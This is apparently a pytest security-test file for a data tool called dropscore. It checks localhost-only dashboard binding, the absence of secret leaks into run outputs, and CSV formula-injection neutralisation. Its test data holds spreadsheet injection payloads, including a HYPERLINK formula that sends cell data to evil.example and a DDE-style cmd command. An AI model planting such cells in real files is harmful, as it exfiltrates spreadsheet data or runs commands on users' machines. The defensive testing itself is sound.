"""Security review, as tests: the dashboard is not on the network unless asked, no secret leaks
into what a run writes, and CSV a user downloads cannot run formulas in their spreadsheet.

Elsewhere: the SQL sandbox's escape attempts (tests/test_sql_sandbox.py); no personal data in
the warehouse after loading Shopify exports (tests/test_formats.py).
"""

from __future__ import annotations

import csv
import io
import os
import secrets
import socket
import stat
import subprocess
import sys

import duckdb
import pandas
import pytest
from click.testing import CliRunner

from dropscore import cli as cli_module
from dropscore.config import PROJECT_DIR
from dropscore.safe_csv import dataframe_csv, neutralise_cell, write_csv
from tests.reliability import copy_home

# --- the dashboard stays on this machine ------------------------------------------------------


def test_the_dashboard_command_listens_on_localhost_by_default():
    address = next(p for p in cli_module.cli.commands["dashboard"].params if p.name == "address")
    assert address.default == "127.0.0.1"


def test_the_dashboard_is_served_on_localhost_with_streamlit_protections_on(monkeypatch, tmp_path):
    launched = []
    # Streamlit takes the command's place (os.execve): recorded here instead of serving
    monkeypatch.setattr(
        cli_module.os, "execve", lambda path, command, environment: launched.append(command)
    )
    with socket.socket() as probe:  # a port free now, so the in-use check passes
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    result = CliRunner().invoke(
        cli_module.cli, ["dashboard", "--home", str(tmp_path), "--port", str(port)]
    )
    assert result.exit_code == 0, result.output
    (command,) = launched
    options = dict(zip(command, command[1:], strict=False))
    assert options["--server.address"] == "127.0.0.1"
    assert options["--browser.gatherUsageStats"] == "false"
    # Streamlit's cross-site request forgery and CORS protections are left on.
    assert not any("enableXsrfProtection" in part or "enableCORS" in part for part in command)


def test_no_project_streamlit_config_opens_the_dashboard_to_the_network():
    for config in (PROJECT_DIR / ".streamlit").glob("*.toml"):
        text = config.read_text()
        assert "0.0.0.0" not in text and "enableXsrfProtection = false" not in text, config


# --- no secrets in what a run writes ----------------------------------------------------------

# Secrets a user's shell commonly holds; a run must not copy any of them anywhere.
PLANTED = {
    "GITHUB_TOKEN": "ghp_",
    "AWS_SECRET_ACCESS_KEY": "",
    "OPENAI_API_KEY": "sk-",
    "SHOPIFY_ACCESS_TOKEN": "shpat_",
    "DBT_ENV_SECRET_WAREHOUSE_TOKEN": "",
    "DATABASE_URL": "postgres://dropscore:",
}


def test_no_secret_from_the_environment_or_the_salt_reaches_logs_reports_or_warehouse(
    built_settings, tmp_path
):
    settings = copy_home(built_settings, tmp_path / "home")
    planted = {name: prefix + secrets.token_hex(16) for name, prefix in PLANTED.items()}
    # A Shopify export: its customers' emails are hashed with the salt while it loads.
    shopify = PROJECT_DIR / "tests" / "fixtures" / "real" / "shopify_orders_export_devstore.csv"
    result = subprocess.run(
        [sys.executable, "-m", "dropscore", "run", str(shopify), "--home", str(settings.home)],
        cwd=PROJECT_DIR,
        env={**os.environ, **planted},
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    salt_path = settings.home / "customer-key.salt"
    salt = salt_path.read_text().strip()
    assert len(salt) >= 32
    assert stat.S_IMODE(salt_path.stat().st_mode) == 0o600  # the salt is for this user only
    searched = {"stdout and stderr": (result.stdout + result.stderr).encode()}
    for path in sorted(settings.home.rglob("*")):
        if path.is_file() and path != salt_path:
            searched[str(path.relative_to(settings.home))] = path.read_bytes()
    assert any(name.startswith("logs/") for name in searched)  # dbt's log was written
    for name, content in searched.items():
        for secret in [*planted.values(), salt]:
            assert secret.encode() not in content, f"{secret[:8]}… found in {name}"


# --- CSV that cannot run formulas ---------------------------------------------------------------

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "Shenzhen\n=1+1",  # a line break inside a cell: quoted, so one cell, and not a formula
]
NEUTRALISED = ["'" + cell for cell in HOSTILE_CELLS[:-1]] + HOSTILE_CELLS[-1:]
# A bare carriage return inside a cell, where a spreadsheet would start a new row.
CARRIAGE_RETURNS = ["\r=1+1", 'Shenzhen Gadgets\r=HYPERLINK("http://evil.example")']


def spreadsheet_rows(text: str) -> list[list[str]]:
    """The cells a spreadsheet sees: quotes respected, and a bare carriage return outside quotes
    ends a row, as LibreOffice and Excel read it."""
    return list(csv.reader(io.StringIO(text, newline="")))


def runs_as_formula(cell: str) -> bool:
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(cell)  # -1.5 is a number, not a formula
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("cell", HOSTILE_CELLS[:-1])
def test_a_cell_a_spreadsheet_would_run_is_neutralised(cell):
    assert neutralise_cell(cell) == "'" + cell


def test_a_carriage_return_becomes_a_newline_and_a_leading_one_is_neutralised():
    assert neutralise_cell("\r=1+1") == "'\n=1+1"
    assert neutralise_cell("a\r\nb\rc") == "a\nb\nc"


@pytest.mark.parametrize("value", [-12.5, 3, None, "Shenzhen Gadgets", "a=b", " =1"])
def test_numbers_and_harmless_text_are_left_as_they_are(value):
    assert neutralise_cell(value) == value


def safe_csv_texts(cells: list[str]) -> list[str]:
    """The same rows through every CSV writer users get files from."""
    buffer = io.StringIO()
    write_csv(buffer, ["=name", "loss"], [[cell, -1.5] for cell in cells])
    frame = pandas.DataFrame({"=name": cells, "loss": [-1.5] * len(cells)})
    return [buffer.getvalue(), dataframe_csv(frame)]


def test_csv_writers_neutralise_headers_and_cells():
    for text in safe_csv_texts(HOSTILE_CELLS):
        rows = spreadsheet_rows(text)
        assert rows[0] == ["'=name", "loss"]
        assert rows[1:] == [[cell, "-1.5"] for cell in NEUTRALISED]
        assert not any(runs_as_formula(cell) for row in rows for cell in row)


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_with_a_formula():
    for text in safe_csv_texts(CARRIAGE_RETURNS):
        rows = spreadsheet_rows(text)
        assert len(rows) == 1 + len(CARRIAGE_RETURNS)
        assert not any(runs_as_formula(cell) for row in rows for cell in row)


def test_dropscore_sql_csv_output_neutralises_a_hostile_supplier_name(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    with duckdb.connect(str(home / "warehouse.duckdb")) as con:
        con.execute("create schema marts")
        con.execute("create table marts.dim_suppliers (supplier_id varchar, supplier_name varchar)")
        con.executemany(
            "insert into marts.dim_suppliers values (?, ?)",
            [[str(number), cell] for number, cell in enumerate(HOSTILE_CELLS)],
        )
    result = CliRunner().invoke(
        cli_module.cli,
        [
            "sql", "--home", str(home), "--format", "csv",
            "select supplier_name from marts.dim_suppliers order by supplier_id",
        ],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = spreadsheet_rows(result.stdout)
    assert rows == [["supplier_name"], *([cell] for cell in NEUTRALISED)]
